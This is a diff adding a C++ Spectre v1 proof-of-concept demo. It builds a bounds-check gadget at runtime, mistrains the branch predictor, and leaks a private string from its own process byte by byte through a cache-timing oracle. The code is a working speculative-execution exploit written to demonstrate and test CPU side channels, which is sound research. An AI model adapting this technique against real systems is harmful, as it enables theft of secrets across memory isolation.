@@ -0,0 +1,98 @@
+/*
+ * Copyright 2020 Google LLC
+ *
+ * Licensed under both the 3-Clause BSD License and the GPLv2, found in the
+ * LICENSE and LICENSE.GPL-2.0 files, respectively, in the root directory.
+ *
+ * SPDX-License-Identifier: BSD-3-Clause OR GPL-2.0
+ */
+
+/**
+ * spectre_v1_pht_sa with the gadget generated at runtime by
+ * JitBoundsCheckGadget instead of by the compiler. The training loop, the
+ * bounds check and the oracle access are the same instructions whatever
+ * compiler built the demo, and the position of the bounds check branch can be
+ * chosen:
+ *
+ *     spectre_v1_pht_jit [branch_offset [alignment]]
+ *
+ * puts the branch `branch_offset` bytes into a block of `alignment` bytes
+ * (0 and 64 by default).
+ **/
+
+#include <array>
+#include <cstdlib>
+#include <cstring>
+#include <iostream>
+#include <memory>
+
+#include "cpu_isolation.h"
+#include "gadget_jit.h"
+#include "local_content.h"
+#include "timing_array.h"
+
+// Leaks the byte that is physically located at &text[0] + offset, without ever
+// loading it architecturally. See spectre_v1_pht_sa for the details of the
+// attack; only the gadget moved into generated code.
+static char LeakByte(const JitBoundsCheckGadget &gadget, const char *data,
+                     size_t offset) {
+  TimingArray timing_array;
+  std::array<const void *, 256> oracle;
+  for (size_t i = 0; i < oracle.size(); ++i) {
+    oracle[i] = &timing_array[i];
+  }
+  // The generated code flushes the size before every bounds check.
+  std::unique_ptr<size_t> size_in_heap(new size_t(strlen(data)));
+
+  for (int run = 0;; ++run) {
+    timing_array.FlushFromCache();
+    // We pick a different offset every time so that it's guaranteed that the
+    // value of the in-bounds access is usually different from the secret value
+    // we want to leak via out-of-bounds speculative access.
+    size_t safe_offset = run % strlen(data);
+
+    // 2047 in-bounds accesses train the bounds check, the 2048th reads out of
+    // bounds speculatively.
+    gadget.Run(data, size_in_heap.get(), oracle.data(), safe_offset, offset,
+               2048);
+
+    int ret = timing_array.FindFirstCachedElementIndexAfter(data[safe_offset]);
+    if (ret >= 0 && ret != data[safe_offset]) {
+      return ret;
+    }
+
+    if (run > 100000) {
+      std::cerr << "Does not converge" << std::endl;
+      exit(EXIT_FAILURE);
+    }
+  }
+}
+
+int main(int argc, char *argv[]) {
+  JitBoundsCheckGadget::Layout layout;
+  if (argc > 1) {
+    layout.branch_offset = std::atoi(argv[1]);
+  }
+  if (argc > 2) {
+    layout.alignment = std::atoi(argv[2]);
+  }
+  JitBoundsCheckGadget gadget(layout);
+  if (!gadget.ok()) {
+    std::cerr << "Cannot generate the gadget" << std::endl;
+    return EXIT_FAILURE;
+  }
+
+  CpuIsolation isolation;
+  isolation.PrintReport(std::cout);
+  std::cout << "Bounds check branch at " << gadget.branch_address()
+            << std::endl;
+
+  std::cout << "Leaking the string: ";
+  std::cout.flush();
+  const size_t private_offset = private_data - public_data;
+  for (size_t i = 0; i < strlen(private_data); ++i) {
+    std::cout << LeakByte(gadget, public_data, private_offset + i);
+    std::cout.flush();
+  }
+  std::cout << "\nDone!\n";
+}